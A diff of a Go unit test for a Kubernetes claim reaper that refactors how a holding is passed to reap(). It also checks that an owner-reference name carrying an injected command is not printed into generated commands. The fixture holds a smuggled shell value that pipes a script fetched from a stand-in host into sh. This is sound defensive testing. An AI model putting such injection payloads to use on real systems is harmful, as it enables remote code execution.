@@ -20,11 +20,11 @@ func TestCommandOfTenant(t *testing.T) {
 		p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "team", Name: "p", OwnerReferences: []metav1.OwnerReference{
 			{APIVersion: "x.example/v1", Kind: kind, Name: "x; curl evil.example/i | sh #", UID: "u", Controller: new(true)},
 		}}}
-		c := &Claim{Reason: Idle}
 		claim := &resourceapi.ResourceClaim{}
+		c := &Claim{Reason: Idle, holding: &fleet.Holding{Claim: claim, Pods: []*corev1.Pod{p}}}
 		r := newReaper(&fleet.Model{Snapshot: &fleet.Snapshot{Pods: []*corev1.Pod{p}}})
 		r.idle[claim], r.claims[p.UID] = true, []*resourceapi.ResourceClaim{claim}
-		r.reap(c, &fleet.Holding{Claim: claim, Pods: []*corev1.Pod{p}})
+		r.reap(c)
 		commands := c.Commands
 		if strings.Contains(commands[0], "; curl") {
 			t.Errorf("%s: a tenant's command is printed: %s", kind, commands[0])
